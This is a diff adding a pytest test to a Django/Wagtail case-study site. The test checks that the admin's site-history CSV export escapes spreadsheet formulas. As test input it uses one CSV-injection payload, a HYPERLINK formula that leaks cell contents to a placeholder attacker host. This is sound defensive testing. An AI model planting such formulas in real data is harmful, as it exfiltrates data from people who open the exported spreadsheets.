@@ -1,5 +1,9 @@
 """Editors can add, edit, preview and publish case studies and taxonomy in the Wagtail admin."""
 
+import csv
+import io
+import json
+
 import pytest
 
 from django.contrib.auth import get_user_model
@@ -7,7 +11,9 @@ from django.urls import reverse
 
 from wagtail.models import Revision
 
+from cases.interchange.importer import CaseImporter
 from cases.models import CaseIndexPage, CaseStudyPage, Organisation, Platform, Theme
+from tests.cases.test_interchange_import import record
 
 pytestmark = pytest.mark.django_db
 
@@ -56,3 +62,14 @@ def test_a_case_cannot_be_published_without_alt_text_for_its_hero_image(make_cas
     case.hero_alt = ""
     with pytest.raises(ValidationError):
         case.full_clean()
+
+
+def test_the_admin_csv_downloads_never_start_a_formula(editor):
+    """Wagtail writes page titles and user names into its report CSVs as they are; the
+    site's cell rule applies there too (a contributed title reaches the site history)."""
+    title = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+    CaseImporter().run([json.dumps(record(title=title))])
+    response = editor.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
+    content = b"".join(response.streaming_content).decode()
+    names = [row["Name"] for row in csv.DictReader(io.StringIO(content))]
+    assert names and set(names) == {"'" + title}
